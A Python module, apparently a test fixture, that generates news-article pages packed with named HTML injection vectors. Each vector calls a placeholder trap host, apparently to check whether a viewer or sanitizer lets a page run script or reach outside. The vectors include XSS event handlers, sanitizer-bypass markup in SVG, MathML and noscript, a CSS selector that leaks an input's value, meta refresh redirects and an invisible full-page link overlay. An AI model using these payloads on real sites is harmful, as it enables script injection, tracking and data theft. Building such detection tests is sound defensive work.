"""All the ways in which a page may run something, or call somebody: each calls the trap under its name."""

from __future__ import annotations

import base64

LOADS = {
    "script": "<script src=//{t}/script.js></script>",
    "script-in-svg": "<svg><script href=//{t}/script-in-svg.js></script></svg>",
    "script-of-a-module": "<script type=module>import '//{t}/script-of-a-module.js'</script>",
    "script-fetches": "<script>fetch('//{t}/script-fetches')</script>",
    "script-beacons": "<script>navigator.sendBeacon('//{t}/script-beacons')</script>",
    "script-web-socket": "<script>new WebSocket('ws://{t}/script-web-socket')</script>",
    "script-event-source": "<script>new EventSource('//{t}/script-event-source')</script>",
    "script-image": "<script>new Image().src='//{t}/script-image'</script>",
    "script-worker": (
        "<script>new Worker(URL.createObjectURL(new Blob([`fetch('http://{t}/script-worker')`])))</script>"
    ),
    "script-service-worker": "<script>navigator.serviceWorker.register('/reach/worker.js')</script>",
    "script-marks": (
        "<script>window.name=document.title='ran';try{localStorage.ran=1;parent.document.title='ran';"
        "top.document.title='ran'}catch(e){fetch('//{t}/script-marks')}</script>"
    ),
    "script-posts": "<script>parent.postMessage('ran','*');fetch('/reach/script')</script>",
    "script-opens": "<script>window.open('//{t}/script-opens')</script>",
    "script-asks": "<script>setTimeout(() => alert('//{t}'), 1)</script>",
    "script-rtc": (
        "<script>let c=new RTCPeerConnection({iceServers:[{urls:'turn:{t}?transport=tcp',username:'a',credential:'b'}]});"
        "c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))</script>"
    ),
    "speculation-rules": (
        '<script type=speculationrules>{"prefetch":[{"urls":["http://{t}/speculation-rules"],"eagerness":"immediate"}],'
        '"prerender":[{"urls":["/reach/prerender"]}]}</script>'
    ),
    "import-map": (
        '<script type=importmap>{"imports":{"x":"http://{t}/import-map.js"}}</script><script type=module>import "x"'
        "</script>"
    ),
    "image": "<img src=//{t}/image>",
    "image-error": "<img src=x: onerror=\"fetch('//{t}/image-error')\">",
    "image-load": "<img src=data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7 "
    "onload=\"fetch('//{t}/image-load')\">",
    "image-set": "<img srcset='//{t}/image-set 1x, //{t}/image-set 2x'>",
    "image-old-name": "<image src=//{t}/image-old-name>",
    "image-lazy": "<img loading=lazy src=//{t}/image-lazy data-src=//{t}/image-lazy>",
    "image-in-svg": "<svg><image href=//{t}/image-in-svg /></svg>",
    "image-in-svg-xlink": "<svg><image xlink:href=//{t}/image-in-svg-xlink /></svg>",
    "picture": "<picture><source srcset=//{t}/picture><img></picture>",
    "input-image": "<input type=image src=//{t}/input-image>",
    "background": "<table background=//{t}/background><td background=//{t}/background>x</table>",
    "video": "<video src=//{t}/video poster=//{t}/video autoplay muted></video>",
    "audio": "<audio src=//{t}/audio preload=auto autoplay></audio>",
    "source": "<video autoplay muted><source src=//{t}/source></video>",
    "track": "<video muted src=data:video/mp4,x><track default src=//{t}/track.vtt></video>",
    "embed": "<embed src=//{t}/embed.html>",
    "object": "<object data=//{t}/object.html></object>",
    "iframe": "<iframe src=//{t}/iframe.html></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>fetch(`http://{t}/iframe-srcdoc`)</script>'></iframe>",
    "iframe-data": "<iframe src=\"data:text/html,<script>fetch('http://{t}/iframe-data')</script>\"></iframe>",
    "iframe-javascript": "<iframe src=\"javascript:fetch('//{t}/iframe-javascript')\"></iframe>",
    "iframe-of-the-viewer": "<iframe src=/reach/iframe></iframe><iframe src=/></iframe>",
    "fenced-frame": "<fencedframe src=//{t}/fenced-frame></fencedframe>",
    "applet": "<applet code=x archive=//{t}/applet codebase=//{t}/></applet>",
    "style-sheet": "<link rel=stylesheet href=//{t}/style-sheet.css>",
    "alternate-style-sheet": "<link rel='alternate stylesheet' title=x href=//{t}/alternate-style-sheet.css>",
    "preload": "<link rel=preload as=script href=//{t}/preload.js>",
    "preload-image": "<link rel=preload as=image imagesrcset='//{t}/preload-image 1x'>",
    "module-preload": "<link rel=modulepreload href=//{t}/module-preload.js>",
    "prefetch": "<link rel=prefetch href=//{t}/prefetch>",
    "prerender": "<link rel=prerender href=//{t}/prerender>",
    "dns-prefetch": "<link rel=dns-prefetch href=//{t}>",
    "manifest": "<link rel=manifest href=//{t}/manifest>",
    "icon": "<link rel=icon href=//{t}/icon><link rel=apple-touch-icon href=//{t}/icon>",
    "import": "<link rel=import href=//{t}/import.html>",
    "dictionary": "<link rel=compression-dictionary href=//{t}/dictionary>",
    "style-import": "<style>@import '//{t}/style-import.css';</style>",
    "style-import-url": "<style>@import url(//{t}/style-import-url.css) layer(x);</style>",
    "style-import-escaped": "<style>@\\69mport '//{t}/style-import-escaped.css';</style>",
    "style-url": "<style>body{background:url(//{t}/style-url)}</style>",
    "style-url-escaped": "<style>ul{background:u\\72l(//{t}/style-url-escaped)}</style><ul><li>x</ul>",
    "style-image-set": "<style>ol{background:image-set('//{t}/style-image-set' 1x)}</style><ol><li>x</ol>",
    "style-webkit-image-set": (
        "<style>h6{background:-webkit-image-set(url(//{t}/style-webkit-image-set) 1x)}</style><h6>x</h6>"
    ),
    "style-cross-fade": (
        "<style>h5{background:-webkit-cross-fade(url(//{t}/style-cross-fade),url(//{t}/b),50%)}</style><h5>x</h5>"
    ),
    "style-font": "<style>@font-face{font-family:t;src:url(//{t}/style-font)}h4{font-family:t}</style><h4>x</h4>",
    "style-content": "<style>h3::before{content:url(//{t}/style-content)}</style><h3>x</h3>",
    "style-cursor": "<style>*{cursor:url(//{t}/style-cursor),auto}</style>",
    "style-list": "<style>dl{display:list-item;list-style:url(//{t}/style-list)}</style><dl><dd>x</dl>",
    "style-mask": "<style>h2{mask:url(//{t}/style-mask.svg#x);-webkit-mask-image:url(//{t}/m)}</style><h2>x</h2>",
    "style-filter": "<style>address{filter:url(//{t}/style-filter.svg#x)}</style><address>x</address>",
    "style-clip": "<style>dfn{display:block;clip-path:url(//{t}/style-clip.svg#x)}</style><dfn>x</dfn>",
    "style-border": "<style>kbd{border:3px solid;border-image:url(//{t}/style-border) 1}</style><kbd>x</kbd>",
    "style-shape": "<style>cite{float:left;shape-outside:url(//{t}/style-shape)}</style><cite>x</cite>",
    "style-variable": "<style>:root{--t:url(//{t}/style-variable)}var{background:var(--t)}</style><var>x</var>",
    "style-property": (
        "<style>@property --u{syntax:'<image>';inherits:true;initial-value:url(//{t}/style-property)}"
        "samp{background:var(--u)}</style><samp>x</samp>"
    ),
    "style-reads": "<style>input[value^=s]{background:url(//{t}/style-reads)}</style><input value=secret>",
    "style-attribute": "<p style='background:url(//{t}/style-attribute)'>x",
    "style-attribute-escaped": "<p style='background:\\75\\72\\6c(//{t}/style-attribute-escaped)'>x",
    "style-attribute-entity": "<p style='background:&#117;rl&lpar;//{t}/style-attribute-entity)'>x",
    "style-after-a-comment": "<style>/*</style><style>*/i{background:url(//{t}/style-after-a-comment)}</style><i>x</i>",
    "style-in-svg": "<svg><style>text{mask:url(//{t}/style-in-svg.svg#x)}</style><text y=9>x</text></svg>",
    "svg-use": "<svg><use href=//{t}/svg-use.svg#x /></svg>",
    "svg-fe-image": (
        "<svg><filter id=f><feImage href=//{t}/svg-fe-image /></filter><rect width=9 height=9 filter=url(#f) /></svg>"
    ),
    "svg-load": "<svg onload=\"fetch('//{t}/svg-load')\"></svg>",
    "svg-animate": (
        "<svg><a><animate attributeName=href values='javascript:fetch(`//{t}/svg-animate`)'/><text y=20>go</text></a>"
        "<animate onbegin=\"fetch('//{t}/svg-animate')\" attributeName=x dur=1s></animate></svg>"
    ),
    "svg-set": "<svg><image><set attributeName=href to=//{t}/svg-set /></image></svg>",
    "svg-foreign": "<svg><foreignObject><img src=//{t}/svg-foreign></foreignObject></svg>",
    "math-link": "<math href=//{t}/math-link><mtext>x</mtext></math>",
    "math-style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=//{t}/math-style&gt;'>",
    "svg-style": "<svg></p><style><a id='</style><img src=//{t}/svg-style>'></svg>",
    "noscript": "<noscript><p title='</noscript><img src=//{t}/noscript>'></noscript>",
    "noscript-image": "<noscript><img src=//{t}/noscript-image width=1 height=1></noscript>",
    "template": "<template><img src=//{t}/template></template>",
    "shadow-root": "<div><template shadowrootmode=open><img src=//{t}/shadow-root></template></div>",
    "textarea": "<textarea><p title='</textarea><img src=//{t}/textarea>'></textarea>",
    "title": "<title><p title='</title><img src=//{t}/title>'></title>",
    "comment-of-old-browsers": "<!--[if gte IE 4]><img src=//{t}/comment-of-old-browsers><![endif]-->",
    "comment-that-ends-early": "<!--><img src=//{t}/comment-that-ends-early>-->",
    "comment-that-ends-oddly": "<!-- --!><img src=//{t}/comment-that-ends-oddly> -->",
    "cdata": "<svg><![CDATA[><img src=//{t}/cdata>]]></svg><![CDATA[<img src=//{t}/cdata>]]>",
    "processing-instruction": "<?xml-stylesheet href='//{t}/processing-instruction'><img src=//{t}/processing-instruction>",
    "attribute-without-quotes": "<p title=a\x0bonmouseover=x><img/src=//{t}/attribute-without-quotes>",
    "attribute-with-tags": "<p title='\"><img src=//{t}/attribute-with-tags>'>x",
    "nul-in-a-name": "<im\x00g src=//{t}/nul-in-a-name><img src=//{t}/nul-in-a-name>",
    "focus": "<p tabindex=0 autofocus onfocus=\"fetch('//{t}/focus')\">x",
    "toggle": "<details open ontoggle=\"fetch('//{t}/toggle')\"><summary>More</summary>x</details>",
    "animation": "<style>@keyframes a{}</style><p style='animation:a 1s' onanimationstart=\"fetch('//{t}/animation')\">x",
    "transition": "<marquee onstart=\"fetch('//{t}/transition')\">x</marquee>",
    "body-load": "<body onload=\"fetch('//{t}/body-load')\" onpageshow=\"fetch('//{t}/body-load')\">",
    "policy": '<meta http-equiv=Content-Security-Policy content="script-src *; img-src *">',
    "old-fields": "<bgsound src=//{t}/old-fields><layer src=//{t}/old-fields></layer><ilayer src=//{t}/b></ilayer>",
    "cut-off": "<table><tr><td><a href='//{t}/cut-off' ping='//{t}/cut-off'>Link</a>",
}
"""By name; without anybody doing anything, and beside each other on one page. "{t}" is the trap's host and port."""

CLICKS = {
    "link": "<a href=//{t}/link>Link</a>",
    "link-in-a-new-tab": "<a target=_blank href=//{t}/link-in-a-new-tab>New tab</a>",
    "link-to-the-top": "<a target=_top href=//{t}/link-to-the-top>Top</a>",
    "link-with-ping": "<a href=#x ping=//{t}/link-with-ping>Ping</a>",
    "link-to-a-download": "<a download href=//{t}/link-to-a-download>Download</a>",
    "link-to-a-script": "<a href=\"javascript:fetch('//{t}/link-to-a-script')\">Script</a>",
    "link-to-a-script-in-disguise": "<a href=\" java\nscript&colon;fetch('//{t}/disguise')\">Script</a>",
    "link-to-data": "<a href=\"data:text/html,<script>fetch('http://{t}/link-to-data')</script>\">Data</a>",
    "link-that-hears": "<a onclick=\"fetch('//{t}/link-that-hears')\" onmouseover=\"fetch('//{t}/hears')\">Hears</a>",
    "link-of-an-image": "<img usemap=#m width=90 height=30 alt=Map><map name=m><area shape=default href=//{t}/map></map>",
    "link-in-svg": "<svg height=30><a href=//{t}/link-in-svg><text y=20>Drawn</text></a></svg>",
    "link-in-math": "<math><mtext href=//{t}/link-in-math>Formula</mtext></math>",
    "link-of-the-viewer": "<a href=/reach/link>Reach</a> <a target=_top href=/>Front</a>",
    "form": "<form action=//{t}/form><input name=a value=b><button>Send</button></form>",
    "form-post": "<form method=post action=//{t}/form-post><input type=submit value=Post></form>",
    "form-of-the-viewer": "<form method=post action=/reach/form><button>Reach</button></form>",
    "form-elsewhere": "<form id=e></form><button form=e formaction=//{t}/form-elsewhere>Elsewhere</button>",
    "form-to-a-script": "<form action=\"javascript:fetch('//{t}/form-to-a-script')\"><button>Run</button></form>",
    "button-that-hears": "<button onclick=\"fetch('//{t}/button-that-hears')\">Hears</button>",
}
"""That wait for somebody to click."""

ALONE = {
    "preconnect": "<link rel=preconnect href=//{t}>",
    "preconnect-anonymous": "<link rel=preconnect href=//{t} crossorigin>",
    "covers-all": ("<a href=//{t}/covers-all style='position:fixed;inset:0;opacity:0.01;z-index:99999'>Everywhere</a>"),
    "refresh": "<meta http-equiv=refresh content='0;url=http://{t}/refresh'>",
    "refresh-to-the-viewer": "<meta http-equiv=refresh content='0;url=/reach/refresh'>",
    "refresh-to-data": (
        "<meta http-equiv=refresh content=\"0;url=data:text/html,<img src='http://{t}/refresh-to-data'>\">"
    ),
    "refresh-in-the-body": "<p>Text<meta http-equiv='&#82;efresh' content='0;http://{t}/refresh-in-the-body'>",
    "navigates": "<script>location='http://{t}/navigates'</script>",
    "navigates-the-top": "<script>top.location='http://{t}/navigates-the-top'</script>",
    "submits": "<form id=f action=http://{t}/submits></form><script>f.submit()</script>",
    "base": "<base href=//{t}/base/><img src=x><script src=base.js></script><a href=y>Link</a>",
    "frameset": "<frameset><frame src=//{t}/frameset.html></frameset>",
    "plaintext": "<img src=//{t}/plaintext><plaintext></plaintext><img src=//{t}/plaintext>",
    "xmp": "<xmp><img src=//{t}/xmp></xmp><img src=//{t}/xmp><xmp>",
    "open-style": "<style>p{background:url(//{t}/open-style)}</style><p>Text<style>",
    "open-comment": "<img src=//{t}/open-comment><!-- ",
    "open-attribute": "<img src=//{t}/open-attribute><img src='//{t}/open-attribute?",
    "noembed": "<noembed><img src=//{t}/a></noembed><noframes><p id='</noframes><img src=//{t}/noembed>'></noframes>",
    "select": "<select><style></select><img src=//{t}/select></style></select>",
    "deep": "<div>" * 600 + "<img src=//{t}/deep>",
    "tables": "<table><a href=//{t}/x><table><td><svg><desc><style></table><img src=//{t}/tables></style>",
    "utf-7": "<meta charset=utf-7>+ADw-img src=//{t}/utf-7+AD4-<img src=//{t}/utf-7>",
    "iso-2022-jp": "<meta charset=iso-2022-jp><a title='\x1b$B'>x</a><img src=//{t}/iso-2022-jp>",
    "application-cache": "<html manifest=//{t}/application-cache><img src=//{t}/application-cache>",
    "nested-data": "<img src=//{t}/nested-data><object data='data:text/html;base64,{data}'></object>",
}
"""That leave no room for others on their page, or take the reader away from it."""


def page(name: str, vectors: list[str], trap: str) -> bytes:
    """An article's page with these in it."""
    inner = base64.b64encode(f"<script>fetch('http://{trap}/nested-data')</script>".encode()).decode()
    text = "<p>The council voted on Monday to rebuild the old bridge, at a cost of four million.</p>" * 6
    found = "\n".join(vectors).replace("{t}", trap).replace("{data}", inner)
    head = f"<!doctype html><html lang=en><head><title>{name}</title></head>"
    if name == "frameset":
        return f"{head}{found}</html>".encode()
    return f"{head}<body><article><h1>The story of {name}</h1>{text}</article>\n{found}\n</body></html>".encode()


def pages(trap: str) -> dict[str, bytes]:
    """All of them, by the name of the page."""
    alone = {name: page(name, [vector], trap) for name, vector in ALONE.items()}
    return {
        "loads": page("loads", list(LOADS.values()), trap),
        "clicks": page("clicks", list(CLICKS.values()), trap),
        **alone,
    }
